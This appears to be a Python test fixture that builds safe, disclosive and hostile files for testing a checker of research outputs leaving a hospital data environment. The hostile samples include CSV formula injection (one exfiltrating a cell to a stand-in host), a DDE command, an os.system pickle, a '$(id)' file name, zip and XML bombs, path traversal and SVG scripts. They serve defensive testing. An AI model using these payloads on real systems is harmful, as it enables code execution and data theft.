"""Files that ask to leave: hostile, disclosive and safe, each with a label that follows from how it
was made. Seeded; the rules are not asked for a label.

`rule`: what must be found of a bad file, beside the lines that stand over every declared file.
`least`: whether a person seeing it is enough (`review`), as the rules say of some.
"""

from __future__ import annotations

import base64
import io
import json
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any, Literal

import numpy as np
import pyarrow as pa

from tests.files_house import (
    SAFE_ROWS,
    WARDS,
    book_of,
    chunk,
    code,
    csv_of,
    cut_of,
    film_of,
    hospital,
    jpeg_of,
    notebook_of,
    parquet_of,
    parts_of,
    plot,
    png_of,
    svg_of,
    with_parts,
    zip_of,
)

Label = Literal["safe", "disclosive", "hostile"]


@dataclass(frozen=True)
class Made:
    """One file. kind: what the study declared it to be."""

    what: str
    label: Label
    name: str
    content: bytes
    rule: str = ""
    least: Literal["review", "fail"] = "fail"
    kind: Literal["file", "figure"] = "file"


COUNTS = csv_of(["ward", "n"], SAFE_ROWS)
KERNEL = {"name": "p", "display_name": "P"}


def corpus(seed: int = 1) -> list[Made]:
    """All files."""
    rng = np.random.default_rng(seed)
    parts = (identifiers, row_level, small_figures, tables, archives, pictures, notebooks, markup,
             disguises, safe_tables, safe_others)  # fmt: skip
    return [one for part in parts for one in part(rng)]


def identifiers(rng: np.random.Generator) -> Iterator[Made]:
    held = hospital()
    some = [int(n) for n in rng.choice(600, 12, replace=False)]
    numbers = [held["nhs"][n] for n in some]
    bad: tuple[Any, ...] = ("disclosive",)
    yield Made("NHS numbers", *bad, "a.csv", csv_of(["id", "n"], [(x, 50) for x in numbers]),
               "identifier")  # fmt: skip
    texts = [[f"patient {x[:3]} {x[3:6]} {x[6:]} went home"] for x in numbers[:3]]
    yield Made("NHS numbers in texts", *bad, "b.csv", csv_of(["note"], texts), "sieve")
    inside = [[f"88{x}4{place}"] for place, x in enumerate(numbers)]
    yield Made("NHS numbers inside longer numbers", *bad, "c.csv", csv_of(["ref"], inside), "sieve")
    dashed = [["\u2011".join((x[:3], x[3:6], x[6:]))] for x in numbers[:4]]
    yield Made("NHS numbers with odd dashes", *bad, "d.csv", csv_of(["ref"], dashed), "identifier")
    names = [[held["surname"][n], 40] for n in some]
    yield Made("surnames", *bad, "e.csv", csv_of(["group", "n"], names), "sieve")
    cells = [[held["hospital"][n].lower(), 40] for n in some[:1]]
    yield Made("one hospital number", *bad, "f.csv", csv_of(["group", "n"], cells), "sieve")
    codes = [[held["postcode"][n].replace(" ", ""), 40] for n in some]
    yield Made("postcodes of patients", *bad, "g.csv", csv_of(["area", "n"], codes), "sieve")
    columns = csv_of([*numbers[:3]], [(20, 30, 40)])
    yield Made("NHS numbers as columns", *bad, "h.csv", columns, "sieve")
    yield Made("NHS numbers as keys", *bad, "i.json",
               json.dumps({x: {"n": 40} for x in numbers}).encode(), "sieve")  # fmt: skip
    yield Made("pseudonyms", *bad, "j.csv",
               csv_of(["x"], [[held["code"][n].hex()] for n in some]), "codes")  # fmt: skip
    yield Made("record codes, cut off", *bad, "k.csv",
               csv_of(["x"], [[held["spell"][n].hex()[:9]] for n in some]), "codes")  # fmt: skip
    coded = [[base64.b64encode(held["code"][n]).decode()] for n in some]
    yield Made("pseudonyms in base64", *bad, "l.csv", csv_of(["x"], coded), "codes")
    yield Made("pseudonyms as Python prints them", *bad, "m.csv",
               csv_of(["x"], [[repr(held["code"][n]).replace(",", ".")] for n in some]),
               "hidden")  # fmt: skip
    raw = parquet_of({"x": pa.array([held["code"][n] for n in some], pa.binary()),
                      "n": list(range(20, 32))})  # fmt: skip
    yield Made("pseudonyms as bytes", *bad, "n.parquet", raw, "codes")


def row_level(rng: np.random.Generator) -> Iterator[Made]:
    some = [int(n) for n in rng.choice(600, 80, replace=False)]
    columns = ["age_band", "ward", "sex", "nights"]
    rows = cut_of(some, columns)
    yield Made("rows of people", "disclosive", "a.csv", csv_of(columns, rows), "row-level")
    yield Made("rows of people, renamed", "disclosive", "b.csv",
               csv_of(["v1", "v2", "v3", "v4"], rows), "row-level")  # fmt: skip
    scored = [[*row, round(float(rng.normal()), 3)] for row in rows]
    yield Made("rows of people with a score", "disclosive", "c.tsv",
               csv_of([*columns, "score"], scored, "\t"), "row-level")  # fmt: skip
    records = [dict(zip(columns, row, strict=True)) for row in rows]
    yield Made("records of people", "disclosive", "d.json", json.dumps(records).encode(),
               "row-level")  # fmt: skip
    held = hospital()
    dates = [[held["admitted"][n], held["nights"][n], held["sex"][n]] for n in some[:4]]
    yield Made("four people by their dates", "disclosive", "e.csv",
               csv_of(["day", "stay", "s"], dates), "row-level")  # fmt: skip
    arrow = {name: [row[place] for row in rows] for place, name in enumerate(columns)}
    yield Made("rows of people in Parquet", "disclosive", "f.parquet", parquet_of(arrow),
               "row-level")  # fmt: skip
    yield Made("rows of people in a workbook", "disclosive", "g.xlsx",
               book_of(lambda _, sheet: [sheet.append(row) for row in rows]
                       and sheet.delete_rows(1, 4)), "row-level")  # fmt: skip
    cells = "".join(f"<tr>{''.join(f'<td>{c}</td>' for c in row)}</tr>" for row in rows)
    yield Made("rows of people on a page", "disclosive", "h.html",
               f"<table>{cells}</table>".encode(), "row-level")  # fmt: skip
    many = csv_of(["x"], [[n] for n in range(5_001)])
    yield Made("more rows than a table has", "disclosive", "i.csv", many, "rows")
    yield Made("a list of many", "disclosive", "j.json", json.dumps({"x": list(range(5001))})
               .encode(), "rows")  # fmt: skip


def small_figures(rng: np.random.Generator) -> Iterator[Made]:
    small = int(rng.integers(1, 10))
    rows = [*SAFE_ROWS, ("Dell", small)]
    yield Made("a small count", "disclosive", "a.csv", csv_of(["ward", "n"], rows), "threshold")
    yield Made("a small count in a workbook", "disclosive", "b.xlsx",
               book_of(lambda _, sheet: sheet.append(["Dell", small])), "threshold")  # fmt: skip
    told = [{"ward": ward, "patients": n} for ward, n in rows]
    yield Made("a small count in JSON", "disclosive", "c.json", json.dumps(told).encode(),
               "threshold")  # fmt: skip
    yield Made("a small count with semicolons", "disclosive", "d.csv",
               csv_of(["ward", "n"], rows, ";"), "threshold")  # fmt: skip
    body = "".join(f"<tr><td>{ward}</td><td>{n}</td></tr>" for ward, n in rows)
    head = "<tr><th>ward</th><th>n</th></tr>"
    yield Made("a small count on a page", "disclosive", "e.html",
               f"<table>{head}{body}</table>".encode(), "threshold")  # fmt: skip


def tables(rng: np.random.Generator) -> Iterator[Made]:
    attack = csv_of(["ward", "n"], [('"=HYPERLINK(""http://x/?""&A1)"', 50)])
    yield Made("a formula", "hostile", "a.csv", attack, "active")
    command = csv_of(["ward", "n"], [("+cmd|'/C calc'!A0", 50)])
    yield Made("a command behind a plus", "hostile", "b.csv", command, "active")
    yield Made("an at sign", "hostile", "c.csv", csv_of(["w", "n"], [("@SUM(A1)", 50)]), "active")
    yield Made("bytes of nothing in a table", "hostile", "d.csv", COUNTS + b"A\x00,5\n",
               "type")  # fmt: skip
    yield Made("a table in another encoding", "hostile", "e.csv", "wärd,n\nA,20\n".encode("cp1252"),
               "type")  # fmt: skip
    yield Made("rows of two lengths", "hostile", "f.csv", COUNTS + b"A,20,943\n", "unreadable")
    yield Made("JSON with a key twice", "hostile", "g.json", b'{"n": 20, "n": 2}', "unreadable")
    deep = b"[" * 5000 + b"]" * 5000
    yield Made("JSON that is deep", "hostile", "h.json", deep, "unreadable")
    yield Made("JSON with no number", "hostile", "i.json", b'{"n": NaN}', "unreadable")
    hidden = parquet_of({"ward": list(WARDS)}, {"note": "patient 943 476 5919"})
    yield Made("Parquet with a text beside", "hostile", "j.parquet", hidden, "dropped", "review")
    kept = parquet_of({"n": [20, 30], "__index_level_0__": ["a", "b"]}, {"pandas": "{}"})
    yield Made("Parquet with a kept index", "hostile", "k.parquet", kept, "dropped", "review")
    yield Made("Parquet that is nested", "hostile", "l.parquet",
               parquet_of({"x": [[1, 2], [3]]}), "unreadable")  # fmt: skip


def archives(rng: np.random.Generator) -> Iterator[Made]:
    def hide(book: Any, _: Any, state: str = "hidden") -> None:
        sheet = book.create_sheet("raw")
        sheet.append([int(rng.integers(1, 9))])
        sheet.sheet_state = state

    def lines(_: Any, sheet: Any) -> None:
        sheet.row_dimensions[3].hidden = True

    def columns(_: Any, sheet: Any) -> None:
        sheet.column_dimensions["B"].hidden = True

    def comment(_: Any, sheet: Any) -> None:
        from openpyxl.comments import Comment

        sheet["A2"].comment = Comment("three of them died", "x")

    yield Made("a hidden sheet", "hostile", "a.xlsx", book_of(hide), "hidden")
    yield Made("a sheet hidden well", "hostile", "b.xlsx",
               book_of(lambda book, sheet: hide(book, sheet, "veryHidden")), "hidden")  # fmt: skip
    yield Made("hidden rows", "hostile", "c.xlsx", book_of(lines), "hidden")
    yield Made("hidden columns", "hostile", "d.xlsx", book_of(columns), "hidden")
    yield Made("comments", "hostile", "e.xlsx", book_of(comment), "dropped", "review")
    parts = {
        "macros": ("xl__vbaProject.bin", "active"),
        "links to files": ("xl__externalLinks__externalLink1.xml", "active"),
        "connections": ("xl__connections.xml", "active"),
        "a pivot's rows": ("xl__pivotCache__pivotCacheRecords1.xml", "hidden"),
        "an embedded file": ("xl__embeddings__oleObject1.bin", "active"),
        "an unknown part": ("xl__rows.dat", "hidden"),
    }
    for place, (what, (part, rule)) in enumerate(parts.items()):
        book = with_parts(book_of(), **{part: b"<x/>"})
        yield Made(what, "hostile", f"f{place}.xlsx", book, rule)
    behind = book_of() + zip_of({"patients.csv": COUNTS})
    yield Made("an archive behind a workbook", "hostile", "g.xlsx", behind, "type")
    before = b"PK\x03\x04" + b"\x00" * 400 + book_of()
    yield Made("bytes before a workbook", "hostile", "h.xlsx", before, "hidden")
    bomb = with_parts(book_of(), xl__worksheets__sheet2__xml=b" ")
    large = {**parts_of(bomb), "xl/sharedStrings.xml": b" " * (40 << 20)}
    yield Made("a bomb", "hostile", "i.xlsx", zip_of(large), "unreadable")
    many = {**parts_of(book_of()), **{f"xl/theme/{n}.xml": b"" for n in range(400)}}
    yield Made("many parts", "hostile", "j.xlsx", zip_of(many), "unreadable")
    yield Made("a part outside", "hostile", "k.xlsx",
               zip_of({**parts_of(book_of()), "../../x.xml": b""}), "unreadable")  # fmt: skip
    entities = (
        b'<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">]><workbook xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main">&a;</workbook>'
    )
    book = zip_of({**parts_of(book_of()), "xl/workbook.xml": entities})
    yield Made("entities", "hostile", "l.xlsx", book, "unreadable")
    yield Made("a plain archive", "hostile", "m.zip", zip_of({"a.csv": COUNTS}), "kind")


def pictures(rng: np.random.Generator) -> Iterator[Made]:
    def made(what: str, name: str, content: bytes, rule: str, least: Any = "fail") -> Made:
        return Made(what, "hostile", name, content, rule, least, "figure")

    polyglot = png_of(plot()) + zip_of({"patients.csv": COUNTS})
    yield made("an archive behind a picture", "a.png", polyglot, "hidden")
    yield made("a table behind a JPEG", "b.jpg", jpeg_of(plot()) + COUNTS, "hidden")
    text = chunk(b"tEXt", b"Comment\x00patient 943 476 5919")
    yield made("a text in a picture", "c.png", png_of(plot(), text), "dropped", "review")
    yield made("a part of its own", "d.png", png_of(plot(), chunk(b"paTi", bytes(2000))), "dropped",
               "review")  # fmt: skip
    yield made("a film", "e.png", film_of(plot(), plot(2)), "dropped", "review")
    clear = np.dstack([rng.integers(0, 255, (60, 90, 3), np.uint8), np.zeros((60, 90), np.uint8)])
    clear[:20, :20] = (0, 94, 184, 255)
    yield made("a picture under nothing", "f.png", png_of(clear.astype(np.uint8), colours=6),
               "dropped", "review")  # fmt: skip
    yield made("a text in a JPEG", "g.jpg", jpeg_of(plot(), comment=b"patient 943 476 5919"),
               "dropped", "review")  # fmt: skip
    broken = bytearray(png_of(plot()))
    broken[60] ^= 1
    yield made("a broken picture", "h.png", bytes(broken), "unreadable")
    huge = bytearray(png_of(plot()))
    huge[16:24] = (60_000).to_bytes(4, "big") * 2
    crc = chunk(b"IHDR", bytes(huge[16:29]))[-4:]
    huge[29:33] = crc
    yield made("a picture of a huge size", "i.png", bytes(huge), "unreadable")


def notebooks(rng: np.random.Generator) -> Iterator[Made]:
    table = {"output_type": "execute_result", "execution_count": 1, "metadata": {},
             "data": {"text/html": "<table><tr><td>3</td></tr></table>"}}  # fmt: skip
    yield Made("a notebook with outputs", "hostile", "a.ipynb",
               notebook_of([code("stays.head()", table)]), "dropped", "review")  # fmt: skip
    attached = {"cell_type": "markdown", "source": "![x](attachment:x.png)", "metadata": {},
                "attachments": {"x.png": {"image/png": "aGVsbG8="}}}  # fmt: skip
    yield Made("a notebook with an attachment", "hostile", "b.ipynb", notebook_of([attached]),
               "dropped", "review")  # fmt: skip
    yield Made("a notebook with widgets", "hostile", "c.ipynb",
               notebook_of([code("1")], widgets={"state": {"x": "943 476 5919"}}), "dropped",
               "review")  # fmt: skip
    carried = base64.b64encode(rng.bytes(3000)).decode()
    yield Made("a notebook with data in its source", "hostile", "d.ipynb",
               notebook_of([code(f"x = '{carried}'")]), "hidden")  # fmt: skip
    number = hospital()["nhs"][int(rng.integers(600))]
    yield Made("a notebook that names a patient", "disclosive", "e.ipynb",
               notebook_of([code(f"stays[stays.nhs == {number}]")]), "sieve")  # fmt: skip
    yield Made("a notebook that is none", "hostile", "f.ipynb",
               b'{"nbformat": 4, "cells": [{"cell_type": "code"}]}', "unreadable")  # fmt: skip


def markup(rng: np.random.Generator) -> Iterator[Made]:
    def drawn(what: str, name: str, inside: str, rule: str, least: Any = "fail") -> Made:
        return Made(what, "hostile", name, svg_of(inside), rule, least, "figure")

    yield drawn("a script", "a.svg", "<script>fetch('/')</script>", "active")
    yield drawn("a handler", "b.svg", '<rect width="9" height="9" onload="x()"/>', "active")
    yield drawn("a picture in a drawing", "c.svg", '<image href="data:image/png;base64,aGk="/>',
                "active")  # fmt: skip
    yield drawn("a reference outside", "d.svg", '<use xlink:href="http://x/y.svg#a"/>', "active")
    yield drawn("a page in a drawing", "e.svg", "<foreignObject><p>x</p></foreignObject>", "active")
    yield drawn("a style that loads", "f.svg", "<style>@import url(http://x)</style>", "active")
    yield drawn("a text nobody sees", "g.svg", '<text style="display:none">943</text>', "hidden")
    points = "".join(
        f'<circle cx="{x:.3f}" cy="{y:.3f}" r="1"/>' for x, y in rng.random((300, 2)) * 60
    )
    scatter = Made("a point for each person", "disclosive", "h.svg", svg_of(points), "hidden",
                   kind="figure")  # fmt: skip
    yield scatter
    path = " ".join(f"L {x:.3f} {y:.3f}" for x, y in rng.random((80, 2)) * 60)
    yield Made("a curve without its table", "disclosive", "i.svg",
               svg_of(f'<path d="M 0 0 {path}" fill="none"/>'), "underlying", "review",
               "figure")  # fmt: skip
    bomb = b'<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;">]>' + svg_of("<g>&b;</g>")
    yield Made("entities in a drawing", "hostile", "j.svg", bomb, "unreadable", kind="figure")
    yield Made("a script on a page", "hostile", "k.html", b"<p>x</p><script>1</script>", "active")
    yield Made("a handler on a page", "hostile", "l.html", b'<p onclick="x()">x</p>', "active")
    yield Made("a picture on a page", "hostile", "m.html", b'<p><img src="http://x/y"></p>',
               "active")  # fmt: skip
    yield Made("a link on a page", "hostile", "n.html", b'<p><a href="javascript:x">x</a></p>',
               "active")  # fmt: skip
    yield Made("a hidden text on a page", "hostile", "o.html",
               b'<p style="display:none">943 476</p><p>x</p>', "hidden")  # fmt: skip
    yield Made("a note on a page", "hostile", "p.html", b"<p>x</p><!-- 943 476 5919 -->", "dropped",
               "review")  # fmt: skip


def disguises(rng: np.random.Generator) -> Iterator[Made]:
    yield Made("a picture called a table", "hostile", "a.csv", png_of(plot()), "type")
    yield Made("a workbook called a table", "hostile", "b.csv", book_of(), "type")
    yield Made("a table called a picture", "hostile", "c.png", COUNTS, "type", kind="figure")
    yield Made("a JPEG called PNG", "hostile", "d.png", jpeg_of(plot()), "type", kind="figure")
    yield Made("a pickle called a table", "hostile", "e.csv", b"\x80\x04\x95\x00.", "type")
    yield Made("a pickle of old called a table", "hostile", "f.csv", b"cos\nsystem\n(S'x'\ntR.",
               "type")  # fmt: skip
    yield Made("a pickle", "hostile", "g.pkl", b"\x80\x04\x95\x00.", "kind")
    yield Made("weights with a pickle", "hostile", "h.pt", zip_of({"m/data.pkl": b"\x80\x02."}),
               "kind")  # fmt: skip
    yield Made("a document", "hostile", "i.docx",
               zip_of({"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"}),
               "kind")  # fmt: skip
    yield Made("an old workbook", "hostile", "j.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" +
               bytes(512), "kind")  # fmt: skip
    yield Made("PDF", "hostile", "k.pdf", b"%PDF-1.7\n1 0 obj\n", "kind")
    yield Made("a name that turns round", "hostile", "x\u202evsc.csv", COUNTS, "name")
    yield Made("a name with a command", "hostile", "$(id).csv", COUNTS, "name")
    yield Made("an unknown ending", "hostile", "table.dat", COUNTS, "type")
    yield Made("a model handed in as a file", "hostile", "m.safetensors",
               (20).to_bytes(8, "little") + b'{"a":1}' + b" " * 13, "model")  # fmt: skip
    yield Made("nothing", "hostile", "n.csv", b"", "kind")
    yield Made("a picture declared as a file", "hostile", "o.png", png_of(plot()), "kind")


def safe_tables(rng: np.random.Generator) -> Iterator[Made]:
    """Near misses: tables of figures that resemble what is bad."""
    held = hospital()
    safe: tuple[Any, ...] = ("safe",)
    yield Made("counts", *safe, "a.csv", COUNTS)
    yield Made("counts in UTF-16", *safe, "b.csv", COUNTS.decode().encode("utf-16"))
    yield Made("counts with a mark of order", *safe, "c.csv", b"\xef\xbb\xbf" + COUNTS)
    bands = sorted(set(held["age_band"]))
    two = [(ward, band, int(rng.integers(10, 90))) for ward in WARDS for band in bands]
    yield Made("counts by ward and age", *safe, "d.csv", csv_of(["ward", "age_band", "n"], two))
    yield Made("the same by tabs", *safe, "e.tsv", csv_of(["ward", "age_band", "n"], two, "\t"))
    means = [(ward, sex, 90, round(float(rng.normal(30, 3)), 2)) for ward in WARDS
             for sex in ("female", "male")]  # fmt: skip
    yield Made("means", *safe, "f.csv", csv_of(["ward", "sex", "n", "mean_nights"], means))
    medians = [(ward, 28 + place) for place, ward in enumerate(WARDS)]
    yield Made("medians", *safe, "g.csv", csv_of(["ward", "median_nights"], medians))
    model = [("age", "-0.21", "-0.40 to -0.02"), ("sex", "+0.10", "- not given"),
             ("(intercept)", "1.5e-3", "-")]  # fmt: skip
    yield Made("coefficients", *safe, "h.csv", csv_of(["term", "coef", "ci"], model))
    cost = [(ward, int(rng.integers(1_100_000_000, 3_900_000_000))) for ward in WARDS * 4]
    yield Made("ten-digit costs", *safe, "i.csv", csv_of(["ward", "cost"], cost))
    groups = [("White", 310), ("Asian", 120), ("Black", 94), ("Mixed", 41), ("Young adult", 77)]
    yield Made("groups that are surnames too", *safe, "j.csv", csv_of(["ethnicity", "n"], groups))
    months = [(f"2024-{n:02}-01", int(rng.integers(100, 900))) for n in range(1, 13)]
    yield Made("a series by month", *safe, "k.csv", csv_of(["month", "n"], months))
    areas = [(f"LS{n}", int(rng.integers(100, 900))) for n in range(1, 9)]
    yield Made("halves of postcodes", *safe, "l.csv", csv_of(["area", "n"], areas))
    curve = [(n, round(1 - n / 400, 4), 600 - 6 * n) for n in range(90)]
    yield Made("a survival curve", *safe, "m.csv", csv_of(["day", "survival", "at_risk"], curve))
    quoted = b'ward,n\n"Alder, with ""Birch""\nand more",120\nCedar,30\n'
    yield Made("quotes and lines", *safe, "n.csv", quoted)
    hidden = csv_of(["ward", "n"], [*SAFE_ROWS, ("Dell", "[REDACTED]")])
    yield Made("a hidden count", *safe, "o.csv", hidden)


def safe_others(rng: np.random.Generator) -> Iterator[Made]:
    safe: tuple[Any, ...] = ("safe",)
    yield Made("counts in JSON", *safe, "a.json",
               json.dumps([{"ward": w, "n": n} for w, n in SAFE_ROWS]).encode())  # fmt: skip
    yield Made("a tree in JSON", *safe, "b.json",
               json.dumps({"model": {"auc": 0.81, "terms": {"age": -0.2}}}).encode())  # fmt: skip
    wards, counts = zip(*SAFE_ROWS, strict=True)
    yield Made("counts in Parquet", *safe, "c.parquet",
               parquet_of({"ward": list(wards), "n": list(counts)}, {"pandas": "{}"}))  # fmt: skip
    yield Made("a workbook", *safe, "d.xlsx", book_of())

    def second(book: Any, _: Any) -> None:
        sheet = book.create_sheet("by sex")
        for row in [("sex", "n"), ("female", 300), ("male", 290)]:
            sheet.append(row)

    yield Made("a workbook of two sheets", *safe, "e.xlsx", book_of(second))
    yield Made("a workbook with a sum", *safe, "f.xlsx",
               book_of(lambda _, sheet: sheet.append(["all", "=SUM(B2:B4)"])))  # fmt: skip
    for name, content in (("g.png", png_of(plot())), ("h.jpg", jpeg_of(plot())),
                          ("i.png", _by_pillow(plot()))):  # fmt: skip
        yield Made("a chart", "safe", name, content, kind="figure")
    bars = "".join(
        f'<rect x="{9 * n}" y="9" width="8" height="{int(h)}" style="fill: #005eb8"/>'
        for n, h in enumerate(rng.integers(9, 50, 8))
    )
    head = (
        '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"\n'
    )
    head += '  "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    style = '<defs><style type="text/css">*{stroke-linejoin: round}</style></defs>'
    yield Made("a chart of bars", "safe", "j.svg", head.encode() + svg_of(style + bars),
               kind="figure")  # fmt: skip
    yield Made("a notebook", *safe, "k.ipynb",
               notebook_of([{"cell_type": "markdown", "source": "# Waits", "metadata": {}},
                            code("table(by=['ward'])")], kernelspec=KERNEL))  # fmt: skip
    body = "".join(f"<tr><th>{n}</th><td>{w}</td><td>{c}</td></tr>"
                   for n, (w, c) in enumerate(SAFE_ROWS))  # fmt: skip
    page = ('<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th>'
            f"<th>ward</th><th>n</th></tr></thead><tbody>{body}</tbody></table>")  # fmt: skip
    yield Made("a page with a table", *safe, "l.html", page.encode())


def _by_pillow(pixels: Any) -> bytes:
    """As plotting libraries write it, with their name in it."""
    from PIL import Image
    from PIL.PngImagePlugin import PngInfo

    told = PngInfo()
    told.add_text("Software", "a library for plots")
    sink = io.BytesIO()
    Image.fromarray(pixels).save(sink, "PNG", pnginfo=told, dpi=(150, 150))
    return sink.getvalue()
